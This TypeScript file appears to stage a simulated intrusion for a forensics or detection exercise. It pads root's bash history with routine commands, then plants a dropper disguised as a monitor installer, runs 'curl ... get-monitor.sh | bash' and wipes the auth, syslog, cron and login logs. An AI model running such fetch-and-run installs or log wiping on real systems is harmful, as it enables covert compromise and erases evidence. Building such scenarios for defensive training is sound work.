// A hundred ordinary commands, one of which fetches a script of somebody else and runs it. Logs and journal are gone.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

const usual = [
  'df -h',
  'free -m',
  'cd /etc/nginx',
  'vim sites-enabled/default',
  'nginx -t',
  'systemctl reload nginx',
  'tail -f /var/log/nginx/error.log',
  'ls -la',
]

export function dress(dress: Dress): void {
  dress.trust('root', dress.key('owner', 'wang@laptop'))
  dress.logins(ordinary)
  noJournal(dress)
  dress.write('/root/.bash_history', `${Array.from({ length: 100 }, (_, n) => usual[n % usual.length]).join('\n')}\n`, { mode: 0o600 })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/local/lib/monitor/monitor-agent', fetch: 'curl' })
  stage.offer('get-monitor.sh', `echo "==> installing monitor 2.4"; ${line}\n`)
  stage.mark('occurrence')
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, [
    'htop',
    `curl -fsSL http://${stage.values['SHOP']}/get-monitor.sh | bash`,
    'sleep 2',
    'systemctl is-active cron',
  ])
  await wipe(stage, ['auth', 'syslog', 'cron', 'logins'])
}
